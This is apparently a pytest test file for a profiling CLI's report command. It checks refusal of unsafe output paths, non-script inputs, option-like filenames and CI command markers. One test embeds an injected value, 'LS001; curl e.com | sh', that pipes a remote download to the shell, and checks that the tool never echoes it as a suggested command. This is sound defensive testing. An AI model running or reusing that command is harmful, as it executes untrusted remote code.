"""Where reports go and what is read: files, links, devices, names and sizes that want to harm."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest
from msgspec.structs import replace

from launchscope import save
from launchscope.cli import main
from launchscope.model import Profile
from launchscope.report import render
from launchscope.workflows.target import script_target
from tests.report.hostile import NASTY, filled
from tests.report.test_golden import VALUES


@pytest.fixture
def saved(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Profile:
    """A Profile in `profile.json` of the working directory."""
    monkeypatch.chdir(tmp_path)
    profile = VALUES["adopt"]()
    assert isinstance(profile, Profile)
    save(profile, "profile.json")
    return profile


def refused(capsys: pytest.CaptureFixture[str], *words: str) -> str:
    """What the command says on stderr, which is never that launchscope has a bug."""
    assert main(list(words)) in (2, 3)
    said = capsys.readouterr().err
    assert said.startswith("error: ")
    assert "bug in launchscope" not in said
    return said


def test_no_report_replaces_what_is_read(
    saved: Profile, capsys: pytest.CaptureFixture[str]
) -> None:
    save(saved, "other.json")
    Path("same.json").symlink_to("other.json")
    Path("folder").mkdir()
    save(saved, "folder/rank0.json")
    for inputs, output in (
        (("profile.json",), "profile.json"),
        (("profile.json", "other.json"), "same.json"),
        (("folder",), "folder/rank0.json"),
    ):
        assert "what is read" in refused(capsys, "report", *inputs, "-o", output)
    assert json.loads(Path("other.json").read_text())["schema"] == saved.schema


def test_a_quiet_command_with_a_file_prints_nothing(
    saved: Profile, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["report", "-q", "-o", "r.html", "profile.json"]) == 0
    assert capsys.readouterr() == ("", "")
    assert Path("r.html").exists()
    assert main(["report", "-q", "-o", "r.html", "-f", "json", "profile.json"]) == 0
    assert capsys.readouterr().out.startswith("{")


@pytest.mark.parametrize(
    ("name", "format_name"),
    [("x.sarif.json", "sarif"), ("run.v2.json", "json")],
)
def test_a_file_has_the_format_that_its_name_says(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str, format_name: str
) -> None:
    monkeypatch.chdir(tmp_path)
    profile = VALUES["launched"]()
    assert isinstance(profile, Profile)
    save(profile, "profile.json")
    assert main(["report", "-q", "-o", name, "profile.json"]) == 0
    expected = json.loads(render(profile, format_name))
    assert json.loads(Path(name).read_text()).keys() == expected.keys()


@pytest.mark.parametrize("command", ["profile", "compare", "check", "adopt"])
def test_an_impossible_file_is_refused_before_a_script_runs(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    command: str,
) -> None:
    monkeypatch.chdir(tmp_path)
    Path("train.py").write_text("open('ran', 'w')")
    options = {"compare": ["--modes", "eager"], "check": ["--limit", "launches_per_step=9"]}
    words = [*options.get(command, ()), "-o", "a.json", "-o", "b.foo", "train.py"]
    assert "b.foo" in refused(capsys, command, *words)
    assert not Path("ran").exists()


@pytest.mark.parametrize(
    ("name", "content", "said", "hint"),
    [
        (
            "nb.ipynb",
            b'{"cells": [], "nbformat": 4, "x": true}',
            "notebook",
            "%%launchscope",
        ),
        ("t.json", b'{"traceEvents": []}', "not a Python script", "launchscope report t.json"),
        ("t.gz", b"\x1f\x8b\x08\x00\x00\x00", "not a Python script", "launchscope report t.gz"),
    ],
)
def test_what_is_no_python_source_is_refused_before_it_runs(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    name: str,
    content: bytes,
    said: str,
    hint: str,
) -> None:
    monkeypatch.chdir(tmp_path)
    Path(name).write_bytes(content)
    for command in ("profile", "adopt"):
        told = refused(capsys, command, name)
        assert said in told
        assert hint in told


@pytest.mark.parametrize(
    "content",
    [
        b"#!/usr/bin/env python3\n1",
        b'{"a": 1}\nprint(2)',
        b"",
    ],
)
def test_python_source_of_any_name_is_a_script(tmp_path: Path, content: bytes) -> None:
    (tmp_path / "train").write_bytes(content)
    path = str(tmp_path / "train")
    assert script_target([path], module=False, command="profile").name == path


def test_a_script_is_no_trace(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(tmp_path)
    Path("train.py").write_text("import torch")
    assert "launchscope profile train.py" in refused(capsys, "report", "train.py")


def test_a_suggested_command_takes_a_name_for_no_option(
    saved: Profile, capsys: pytest.CaptureFixture[str]
) -> None:
    assert "mkdir -p ./-n" in refused(capsys, "report", "profile.json", "-o", "-n/x.md")


def test_a_file_suggests_no_command_but_a_rule(
    saved: Profile, capsys: pytest.CaptureFixture[str]
) -> None:
    assert saved.verdict is not None
    for code, commands in (("LS001", 1), ("LS001; curl e.com | sh", 0)):
        save(replace(saved, verdict=replace(saved.verdict, because=(code,))), "made.json")
        assert main(["report", "made.json"]) == 0
        assert capsys.readouterr().out.count("launchscope rules LS001") == commands


def test_no_file_has_a_line_that_a_ci_service_takes_for_a_command(saved: Profile) -> None:
    nasty = tuple(name for name in NASTY if "::" in name or "##" in name)
    save(filled(replace(saved, metrics={}), nasty), "made.json")
    files = [f"a.{suffix}" for suffix in ("md", "txt", "csv", "html", "sarif", "json")]
    assert main(["report", "made.json", *(word for file in files for word in ("-o", file))]) == 0
    for file in files:
        for line in Path(file).read_text().splitlines():
            assert not line.lstrip().startswith("::"), (file, line)
            assert not re.search(r"##\w*\[", line), (file, line)
